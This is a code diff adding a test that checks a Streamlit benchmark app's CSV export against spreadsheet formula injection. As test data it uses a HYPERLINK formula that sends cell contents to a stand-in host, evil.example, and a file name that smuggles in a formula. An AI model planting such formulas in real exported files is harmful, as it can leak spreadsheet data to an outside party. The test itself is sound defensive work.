@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import io
 import json
 
+import pandas as pd
 import pytest
 from streamlit.testing.v1 import AppTest
 
@@ -232,3 +234,18 @@ def test_a_run_here_is_kept_from_its_start_and_finishes_complete():
     assert not problems(at) and "bench_running" not in at.session_state
     (run,) = at.session_state["bench_runs"].values()
     assert len(run.records) == 5 and not any("was stopped" in w.value for w in at.warning)
+
+
+def test_the_records_csv_opens_as_data_in_a_spreadsheet(saved_runs, downloads):
+    link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    data = json.loads(saved_runs[0][1])
+    data["records"][0] |= {"status": "error", "message": link, "median_s": None}
+    at = open_benchmark()
+    at.file_uploader(key="bench_files").set_value([("@SUM(1+1).json", json.dumps(data).encode(), "application/json")])
+    at.run()
+    at.button(key="bench_load").click().run()
+    assert not problems(at)
+    table = pd.read_csv(io.BytesIO(downloads.data(at, "bench_csv")), dtype={"message": object})
+    assert set(table["run"]) == {"'@SUM(1+1).json"}, "the file's name is written as text"
+    assert table.loc[0, "message"] == "'" + link, "so is the record's message"
+    assert table["median_s"].dtype == float and (table["median_s"].dropna() > 0).all(), "the times stay numbers"
